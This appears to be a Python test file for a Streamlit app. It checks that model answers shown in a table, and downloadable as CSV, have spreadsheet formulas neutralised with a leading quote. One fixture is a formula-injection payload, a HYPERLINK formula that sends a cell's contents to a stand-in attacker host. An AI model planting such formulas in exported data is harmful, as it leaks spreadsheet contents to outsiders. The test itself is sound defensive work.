"""Issue 44, item 13: a table that shows model text hands Streamlit's "Download as CSV" no cell a
spreadsheet would run (`=HYPERLINK(...)` in an answer). The toolbar writes the frame's cells as
they are, so the frame given to st.dataframe is what is checked."""

from __future__ import annotations

from streamlit.testing.v1 import AppTest

from db.models import Exchange, Run
from db.session import session_scope
from services.core.safe_text import runs_as_formula, spreadsheet_rows
from tests.conftest import REPO_ROOT

FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")'


def _exchange_with_formulas() -> int:
    with session_scope() as session:
        run = Run(
            kind="playground", name="formula", status="finished", config={"prompt": "hi"}, summary={}
        )
        session.add(run)
        session.flush()
        for engine, answer, error in (("-2+3", FORMULA, None), ("plain", "fine", "@SUM(1)")):
            session.add(
                Exchange(
                    run_id=run.id,
                    conversation_id="c",
                    engine_name=engine,
                    answer=answer,
                    status="finished",
                    error=error,
                )
            )
        return run.id


def test_the_runs_pages_answers_table_carries_no_formula(db_url: str) -> None:
    run_id = _exchange_with_formulas()
    at = AppTest.from_file(str(REPO_ROOT / "app_pages" / "runs.py"), default_timeout=60)
    at.query_params["run"] = str(run_id)
    at.run()
    assert not at.exception
    frames = [frame.value for frame in at.dataframe if "Answer" in frame.value.columns]
    assert frames, "no answers table"
    cells = [str(cell) for frame in frames for cell in frame.to_numpy().ravel()]
    cells += [str(name) for frame in frames for name in frame.columns]
    assert f"'{FORMULA}" in cells and "'@SUM(1)" in cells and "'-2+3" in cells
    assert not [cell for cell in cells if runs_as_formula(cell)]


def test_a_tables_names_and_cells_lose_their_formulas_and_keep_the_rest() -> None:
    rows = spreadsheet_rows([{"=name": " =1+1", "n": 3, "ok": "text", "dash": "—", "tab": "\tx"}])
    assert rows == [{"'=name": "' =1+1", "n": 3, "ok": "text", "dash": "—", "tab": "'\tx"}]
